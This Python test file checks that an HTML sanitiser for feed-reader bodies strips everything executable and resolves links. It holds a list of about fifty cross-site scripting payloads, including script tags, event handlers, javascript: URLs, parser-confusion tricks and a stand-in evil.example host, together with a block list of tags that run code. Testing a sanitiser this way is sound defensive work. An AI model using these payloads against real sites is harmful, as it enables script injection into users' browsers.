"""The HTML of a body for feed readers: nothing runs, nothing is relative, nothing is lost."""

from html import escape, unescape

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.render.standalone import DEEPEST, standalone_html

PAGE = "https://example.org/news/2024/08/kursk/"
SCRIPT = "alert(document.domain)"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT >{SCRIPT}",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src=x onerror={SCRIPT}//",
    f'<a href="javascript:{SCRIPT}">x</a>',
    f'<a href=" java&#x0A;script:{SCRIPT}">x</a>',
    f'<a href="&#1;javascript:{SCRIPT}">x</a>',
    f'<svg><a xlink:href="javascript:{SCRIPT}"><text y=9>x</text></a></svg>',
    f"<svg onload={SCRIPT}>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s></svg>",
    f'<svg><a><animate attributeName=href values="javascript:{SCRIPT}"/></a></svg>',
    f'<svg><set attributeName=href to="javascript:{SCRIPT}"/></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={SCRIPT}>#x"/></svg>',
    f'<math href="javascript:{SCRIPT}">x</math>',
    f"<math><mtext><table><mglyph><style><img src onerror={SCRIPT}></style></mglyph></table>",
    f'<iframe src="data:text/html,<script>{SCRIPT}</script>"></iframe>',
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>',
    f'<embed src="data:text/html,<script>{SCRIPT}</script>">',
    f'<form action="javascript:{SCRIPT}"><button formaction="javascript:{SCRIPT}">x</form>',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>',
    f'<title><p title="</title><img src=x onerror={SCRIPT}>"></title>',
    f'<textarea title="</textarea><img src=x onerror={SCRIPT}>"></textarea>',
    f'<xmp><p title="</xmp><img src=x onerror={SCRIPT}>"></xmp>',
    f'<iframe><p title="</iframe><img src=x onerror={SCRIPT}>"></iframe>',
    f'<noembed title="</noembed><img src=x onerror={SCRIPT}>"></noembed>',
    f'<style title="</style><img src=x onerror={SCRIPT}>"></style>',
    f'<script x="</script><img src=x onerror={SCRIPT}>"></script>',
    f"<plaintext><img src=x onerror={SCRIPT}>",
    f"<template><img src=x onerror={SCRIPT}></template>",
    f"<select><option><img src=x onerror={SCRIPT}></select>",
    '<link rel=stylesheet href="data:text/css,x"><link rel=import href=//evil.example/>',
    '<base href="//evil.example/"><a href="a">x</a>',
    f'<meta http-equiv=refresh content="0;url=javascript:{SCRIPT}">',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    f'<a href="data:text/html,<script>{SCRIPT}</script>">x</a>',
    f'<a href="vbscript:{SCRIPT}">x</a><a href="file:///etc/passwd">x</a>',
    f'<video poster="javascript:{SCRIPT}"><source onerror={SCRIPT}></video>',
    f'<img srcset="javascript:{SCRIPT} 1x, data:text/html,x 2x">',
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<!-- --!><img src=x onerror={SCRIPT}>-->",
    f"<?x ><img src=x onerror={SCRIPT}>?>",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f'<p title="\0" onclick={SCRIPT} id=x name=y class=z>x</p>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f'<a href="https://x" href="javascript:{SCRIPT}">x</a>',
    f"<body onload={SCRIPT}><html onclick={SCRIPT}><frameset onload={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>x</marquee><input autofocus onfocus={SCRIPT}>",
]
RUNS = {
    *("script", "style", "svg", "math", "iframe", "frame", "object", "embed", "form", "button"),
    *("input", "link", "base", "meta", "template", "noscript", "select", "textarea", "title"),
    *("applet", "marquee", "xmp", "plaintext"),
}
LEADING = {"href", "src", "cite", "poster"}
MAY_BEGIN = ("https://", "http://", "mailto:", "tel:", "sms:", "data:image/png")


def assert_inert(html: str) -> None:
    for scripting in (False, True):
        parser = html5lib.HTMLParser(html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
        tree = parser.parseFragment(html, scripting=scripting)
        for element in tree.iter():
            assert element.tag not in RUNS
            assert isinstance(element.tag, str)  # a comment's is none
            for name, value in element.attrib.items():
                assert not str(name).startswith("on")
                assert name not in ("style", "id", "name", "class", "srcdoc", "action")
                assert ":" not in str(name)
                if name in LEADING:
                    assert value.startswith(MAY_BEGIN)
                if name == "srcset":
                    assert all(one.strip().startswith(MAY_BEGIN) for one in value.split(", "))


@pytest.mark.parametrize("html", PAYLOADS)
def test_nothing_runs(html: str) -> None:
    for around in ("{}", "<p>before {} after</p>", "<table><tr><td>{}</table>", "<b><i>{}"):
        assert_inert(standalone_html(around.replace("{}", html), PAGE))


PIECES = [
    *("<a ", "<p>", "<script", "</script>", "<!--", "-->", ">", "/>", "=", '"', "'", " ", "\n"),
    *("href", "onclick", "srcset", "=/x", '="y"', "javascript:", "&#106;", "text", "/", "é", "<"),
    *("<svg>", "<math>", "</svg>", "<style>", "</style>", "<table>", "<td>", "<b>", "</b>", "</p>"),
    *("<noscript>", "</noscript>", "<title>", "</title>", "<iframe ", "<img ", "<mtext>", "&lt;"),
    *("<select>", "<template>", "<plaintext>", "src", "data:text/html,", "xlink:href", "<![CDATA["),
]


@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_whatever_it_is_nothing_runs(html: str) -> None:
    assert_inert(standalone_html(html, PAGE))


@given(st.lists(st.sampled_from([*PIECES, "a", "\x00", "&#1;", "\ud800"])).map("".join))
def test_what_goes_out_stays_as_it_is_when_it_is_cleaned_again(html: str) -> None:
    once = standalone_html(html.encode("utf-8", "replace").decode(), PAGE)
    assert standalone_html(once, PAGE) == once


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="/x/?a=1&amp;b=2">x</a>', '<a href="https://example.org/x/?a=1&amp;b=2">x</a>'),
        ("<a href=/x/>x</a>", '<a href="https://example.org/x/">x</a>'),
        ("<A HREF='../x/'>x</A>", '<a href="https://example.org/news/2024/08/x/">x</a>'),
        ('<a href="#fn:1">1</a>', f'<a href="{PAGE}#fn:1">1</a>'),
        ('<a href="?p=2">x</a>', f'<a href="{PAGE}?p=2">x</a>'),
        ('<a href="">x</a>', f'<a href="{PAGE}">x</a>'),
        ('<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example">x</a>'),
        ('<a href=" \n/x/\t">x</a>', '<a href="https://example.org/x/">x</a>'),
        ('<a href="x[y">x</a>', f'<a href="{PAGE}x[y">x</a>'),
        ('<img src="a.png" alt="/b"/>', f'<img src="{PAGE}a.png" alt="/b">'),
        ('<img alt="<a href=/x/>">', '<img alt="&lt;a href=/x/&gt;">'),
        ('<img src="data:image/png;base64,AA">', '<img src="data:image/png;base64,AA">'),
        ('<video poster="p.jpg"></video>', f'<video poster="{PAGE}p.jpg"></video>'),
        ("<noscript><p>x</p></noscript>", "<p>x</p>"),
        ("<td>x", "x"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        ("5 < 6 & 7", "5 &lt; 6 &amp; 7"),
        ("x<svg>a</svg>y", "xy"),
        ("a<!-- <a href=x> -->b", "ab"),
        ("<p lang=uk dir=ltr title=t>x</p>", '<p lang="uk" dir="ltr" title="t">x</p>'),
    ],
)
def test_what_a_reader_gets(html: str, expected: str) -> None:
    assert standalone_html(html, PAGE) == expected


@pytest.mark.parametrize(
    ("srcset", "expected"),
    [
        ("/a.png 1x, b.png 2x", f"https://example.org/a.png 1x, {PAGE}b.png 2x"),
        ("/a.png", "https://example.org/a.png"),
        (" /a.png 320w,/b.png , ", "https://example.org/a.png 320w, https://example.org/b.png"),
        ("data:image/png;base64,AA,BB 1x", "data:image/png;base64,AA,BB 1x"),
    ],
)
def test_every_candidate_of_a_srcset_is_resolved(srcset: str, expected: str) -> None:
    assert standalone_html(f'<img srcset="{srcset}">', PAGE) == f'<img srcset="{expected}">'


@given(st.text(alphabet="ab<>&\"' \u05d0\U0001f600"))
def test_no_word_is_lost(text: str) -> None:
    html = f'<p title="{escape(text)}">{escape(text)}</p>'
    made = standalone_html(html, PAGE)
    assert unescape(made) == unescape(html)


def test_characters_that_xml_refuses_are_left_out_however_they_are_written() -> None:
    assert standalone_html("<p>a&#1;b\x02c&#xFFFE;</p>", PAGE) == "<p>abc</p>"


def test_what_is_nested_too_deeply_is_kept_without_its_tags() -> None:
    made = standalone_html("<div>" * 1000 + "x", PAGE)
    assert made.count("<div>") == DEEPEST
    assert "x" in made


@pytest.mark.parametrize(
    "piece",
    [
        *(
            '<a "',
            "<a '",
            "<!--",
            "<script>",
            "<script ",
            "<a x=",
            "<a ",
            "</style",
            "<",
            "<a href='",
        ),
        *(
            "<b><p>",
            "<b x={}><p>",
            "<a x={}><p></p>",
            "<div>",
            "</b>",
            "<table><b x={}>x",
            "<i></b>",
        ),
        *("<title>", "<svg>", "<a x={} ", "&amp", "<?", "<td>", "<font size={}>x", "<ruby><rt>"),
    ],
)
def test_what_goes_out_grows_no_faster_than_the_text(piece: str) -> None:
    sizes = []
    for count in (1_000, 8_000):
        html = "".join(piece.replace("{}", str(number)) for number in range(count))
        sizes.append(len(standalone_html(html, PAGE)) + 10_000)
    assert sizes[1] < 10 * sizes[0]
